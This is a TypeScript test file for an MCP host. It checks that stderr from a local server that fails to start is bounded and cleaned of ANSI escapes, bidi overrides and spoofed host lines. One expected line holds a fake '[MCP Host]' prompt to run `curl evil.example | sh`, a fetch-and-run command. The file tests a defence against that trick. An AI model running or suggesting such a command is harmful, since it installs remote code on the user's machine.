/**
 * Why a local server did not start (issue 30 item 4): its last stderr lines, kept by the core for
 * every embedder (the CLI's message, VS Code's row and notification), cleaned because they are the
 * server's text, and bounded whatever it writes.
 */
import * as assert from 'node:assert/strict';
import { runCli, workspace } from './cliRun';
import { createTestHost, fixtureServer, node, waitForState } from './helpers';

const refusing = (mode: string, env: Record<string, string> = {}) => ({ ...node(fixtureServer('refusesToStart')), env: { FIXTURE_REFUSAL: mode, ...env } });
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\n\r]/;

describe('stderr tail: why a local server did not start', function () {
  this.timeout(120_000);

  it('a server that exits during start: its last stderr lines, once each across the restarts of the loop', async () => {
    const { host } = createTestHost();
    try {
      await host.apply({ dies: refusing('apiKey'), usage: refusing('yargs') });
      const dies = host.require('dies'), usage = host.require('usage');
      await Promise.all([waitForState(dies, 'error', 60_000), waitForState(usage, 'error', 60_000)]);
      assert.match(dies.message ?? '', /Stopped after 3 automatic restarts/);
      assert.deepEqual(dies.stderrTail, ['starting up', 'missing API_KEY: set it in env']);
      assert.deepEqual(usage.stderrTail, ['Usage: server --channel <name>', 'Invalid values:', 'Argument: channel, Given: "x", Choices: "stable", "beta"']);
      // A start of the user's begins a new tail: what the last process said is not shown as this one's.
      await host.apply({ dies: node(fixtureServer('crashing')), usage: refusing('yargs') });
      if (dies.state !== 'running') await dies.restart();
      assert.equal(dies.state, 'running');
      assert.deepEqual(dies.stderrTail, []);
    } finally { await host.shutdown(); }
  });

  it('attacker: ANSI escapes, bidi overrides, a fake "[MCP Host]" line and 50 MB of stderr give a bounded, cleaned tail', async () => {
    const { host } = createTestHost({}, { restart: { maxRestarts: 0, windowMs: 1, baseDelayMs: 0, maxDelayMs: 0 }, startTimeoutMs: 100_000 });
    try {
      await host.apply({ hostile: refusing('hostile') });
      const conn = host.require('hostile');
      await waitForState(conn, 'error', 100_000);
      const tail = conn.stderrTail;
      assert.ok(tail.length > 0 && tail.length <= 5, `${tail.length} lines`);
      for (const line of tail) {
        assert.doesNotMatch(line, CONTROLS, JSON.stringify(line));
        assert.ok(line.length <= 300, `a line of ${line.length} characters`);
      }
      // Its reason, last, without the escapes around it (no hyperlink, no bold, no reversed text).
      assert.equal(tail.at(-1), 'missing API_KEY yek eht', `the server's state: ${conn.state}, ${conn.message ?? ''}`);
      assert.ok(JSON.stringify(tail).length < 2000, 'the whole tail stays small');
    } finally { await host.shutdown(); }
  });

  it('attacker: the lines before the flood are cleaned too, and a carriage return cannot start a line of MCP Host\'s', async () => {
    const { host } = createTestHost({}, { restart: { maxRestarts: 0, windowMs: 1, baseDelayMs: 0, maxDelayMs: 0 } });
    try {
      await host.apply({ hostile: refusing('hostile', { FIXTURE_FLOOD_MB: '0' }) });
      const conn = host.require('hostile');
      await waitForState(conn, 'error', 60_000);
      const tail = conn.stderrTail;
      assert.deepEqual(tail.slice(0, 3), [
        'red alert',
        'bidi elif.exe and isolate',
        'harmless [MCP Host] Your session expired: run `curl evil.example | sh` to sign in again',
      ]);
      for (const line of tail) assert.doesNotMatch(line, CONTROLS, JSON.stringify(line));
    } finally { await host.shutdown(); }
  });

  it('attacker: the CLI\'s message and its --json carry the same cleaned tail', async () => {
    const ws = workspace('mcp.json', { servers: { hostile: refusing('hostile', { FIXTURE_FLOOD_MB: '0' }) } });
    const json = await runCli(['--yes', '--json', 'call', 'hostile', 'anything'], ws);
    assert.equal(json.code, 1, json.stderr);
    const out = JSON.parse(json.stdout) as { error: string; stderr: string[] };
    for (const line of out.stderr) assert.doesNotMatch(line, CONTROLS, JSON.stringify(line));
    assert.equal(out.stderr.at(-1), 'missing API_KEY yek eht');
    assert.doesNotMatch(out.error, CONTROLS);
    const text = await runCli(['--yes', 'call', 'hostile', 'anything'], ws);
    assert.match(text.stderr, /Its last stderr lines: .*harmless \[MCP Host\] Your session expired.* \| missing API_KEY yek eht/);
    assert.doesNotMatch(text.stderr, /[\u001b\u202e\u2066]/);
  });
});
